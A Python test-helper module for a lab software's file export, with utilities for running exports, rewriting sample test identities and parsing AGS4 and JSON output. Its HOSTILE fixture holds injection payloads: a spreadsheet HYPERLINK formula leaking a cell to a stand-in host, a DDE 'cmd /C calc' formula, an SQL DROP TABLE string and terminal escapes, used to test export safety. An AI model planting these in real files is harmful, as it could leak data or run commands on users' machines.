"""Files that `export` wrote, as other people's programs read them; and benches to write them of."""

import csv
import io
import json
import re
import shutil
from functools import cache
from pathlib import Path
from typing import Any

from calling import Called, call

from tui.papers.subject import Asked, Subject, subject_of
from tui.settings.places import find_place, read_layout

SAMPLES = Path(__file__).parents[2] / "sample_logs"

HOSTILE = {
    "project": '=HYPERLINK("http://example.invalid/?"&A1,"quay")',
    "hole": '+BH "7"\n=1+1',
    "sample": "-U|09,|ü\x07\x1b[31m",
    "type": "@tube + liner",
    "description": "σ′ ≈ 20 kPa, Skarnsø “漢字” 🙂 é ＝1+1\r\n\t=2",
    "remarks": "\t=cmd|' /C calc'!A0",
    "operator": '"; DROP TABLE tests; --',
    "checker": "''=3",
    "laboratory": "=SUM(1;2)",
    "client": "https://example.invalid/",
    "top": "=5 m",
    "depth": "4.25 m",
}
"""What somebody who means ill, or just writes as people write, may have put into `[identity]`."""


def exported(to: str, out: Path, *arguments: str, bench: Path = SAMPLES) -> Called:
    """Run `porewatch export`."""
    return call("export", *arguments, "--bench", str(bench), "--to", to, "--out", str(out))


@cache
def subject(cell: str, bench: Path = SAMPLES) -> Subject:
    """A test as it is handed on; read and reduced once."""
    layout = read_layout(bench)
    return subject_of(Asked(cell, layout, find_place(layout, cell)))


@cache
def reduced(cell: str, bench: Path = SAMPLES) -> dict[str, Any]:
    """What `reduce --json` says of a test."""
    ended = call("reduce", cell, "--json", "--bench", str(bench))
    assert ended.exit_code == 0, ended.stderr
    found = json.loads(ended.stdout)
    assert isinstance(found, dict)
    return found


def with_identity(bench: Path, cell: str, identity: dict[str, str], label: str | None) -> Path:
    """A copy of the samples in which one test is identified otherwise."""
    shutil.copytree(SAMPLES, bench)
    settings = bench / cell / "cell.toml"
    text = settings.read_text("utf-8")
    lines = "".join(
        f"{key} = {json.dumps(value, ensure_ascii=False)}\n" for key, value in identity.items()
    )
    text = re.sub(r"\[identity\]\n(?:.+\n)*", lambda _: f"[identity]\n{lines}", text)
    named = "" if label is None else f"label = {json.dumps(label, ensure_ascii=False)}\n"
    text = re.sub(r"label = .*\n", lambda _: named, text)
    settings.write_text(text, "utf-8")
    return bench


def groups(content: bytes) -> dict[str, list[dict[str, str]]]:
    """An AGS4 file as rows by group; written for the tests, from the rules of the format."""
    found: dict[str, list[dict[str, str]]] = {}
    heads: list[str] = []
    rows: list[dict[str, str]] = []
    for line in csv.reader(io.StringIO(content.decode("ascii"), newline="")):
        if not line:
            continue
        if line[0] == "GROUP":
            rows = found.setdefault(line[1], [])
        elif line[0] == "HEADING":
            heads = line[1:]
        elif line[0] == "DATA":
            rows.append(dict(zip(heads, line[1:], strict=True)))
    return found


def numbers_of(part: Any, within: str = "") -> dict[str, float]:
    """Every number of a JSON answer by its dotted name, but for what is drawn or listed apart."""
    apart = {"lines", "line_choice", "curve", "scatter", "row", "uncertainty"}
    if isinstance(part, bool):
        return {}
    if isinstance(part, int | float):
        return {within: float(part)}
    found: dict[str, float] = {}
    if isinstance(part, dict):
        for name, one in part.items():
            if name not in apart:
                found |= numbers_of(one, f"{within}.{name}" if within else name)
    elif isinstance(part, list):
        for count, one in enumerate(part, 1):
            found |= numbers_of(one, f"{within}.{count}")
    return found
